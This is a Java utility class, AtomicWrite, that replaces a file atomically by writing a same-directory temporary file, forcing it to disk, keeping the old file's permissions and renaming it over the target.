package org.precedence.runtime.files;

import java.io.IOException;
import java.nio.ByteBuffer;
import java.nio.channels.FileChannel;
import java.nio.charset.StandardCharsets;
import java.nio.file.AtomicMoveNotSupportedException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.StandardCopyOption;
import java.nio.file.StandardOpenOption;
import java.nio.file.attribute.PosixFileAttributeView;
import java.nio.file.attribute.PosixFilePermission;
import java.nio.file.attribute.PosixFilePermissions;
import java.util.Set;

/**
 * Writes a file so that readers see either the old file or the whole new one, never a part:
 * a temporary file in the target's own directory, forced to disk, given the old file's
 * permissions (rw-r--r-- for a new file, since temporary files start owner-only), renamed over
 * the target in one atomic step, and the directory forced too where the platform allows it.
 * On any failure the target is untouched and the temporary file removed.
 */
public final class AtomicWrite {
    private AtomicWrite() {
    }

    /** Writes {@code text} as UTF-8; see the class comment. */
    public static void writeString(Path target, String text) throws IOException {
        write(target, text.getBytes(StandardCharsets.UTF_8));
    }

    /**
     * Writes {@code bytes}; see the class comment.
     *
     * @throws IOException naming the directory when it does not exist, or the file system when
     *                     it cannot rename atomically
     */
    public static void write(Path target, byte[] bytes) throws IOException {
        Path absolute = target.toAbsolutePath();
        Path dir = absolute.getParent();
        if (dir == null || !Files.isDirectory(dir)) {
            throw new IOException("directory " + dir + " does not exist");
        }
        Path temp = Files.createTempFile(dir, "." + absolute.getFileName() + ".", ".tmp");
        try {
            try (FileChannel ch = FileChannel.open(temp, StandardOpenOption.WRITE,
                    StandardOpenOption.TRUNCATE_EXISTING)) {
                ByteBuffer buf = ByteBuffer.wrap(bytes);
                while (buf.hasRemaining()) {
                    ch.write(buf);
                }
                ch.force(true);
            }
            keepPermissions(temp, absolute);
            try {
                Files.move(temp, absolute, StandardCopyOption.ATOMIC_MOVE, StandardCopyOption.REPLACE_EXISTING);
            } catch (AtomicMoveNotSupportedException e) {
                throw new IOException("cannot replace " + absolute + " atomically on this file system", e);
            }
            forceDirectory(dir);
        } finally {
            Files.deleteIfExists(temp);
        }
    }

    private static void keepPermissions(Path temp, Path target) throws IOException {
        if (!Files.getFileStore(temp).supportsFileAttributeView(PosixFileAttributeView.class)) {
            return;
        }
        Set<PosixFilePermission> perms = Files.exists(target)
                ? Files.getPosixFilePermissions(target)
                : PosixFilePermissions.fromString("rw-r--r--");
        Files.setPosixFilePermissions(temp, perms);
    }

    /** Makes the rename durable where a directory can be opened and forced (not on Windows). */
    private static void forceDirectory(Path dir) {
        try (FileChannel ch = FileChannel.open(dir, StandardOpenOption.READ)) {
            ch.force(true);
        } catch (IOException | UnsupportedOperationException e) {
            // The file itself is already on disk and the rename was atomic.
        }
    }
}
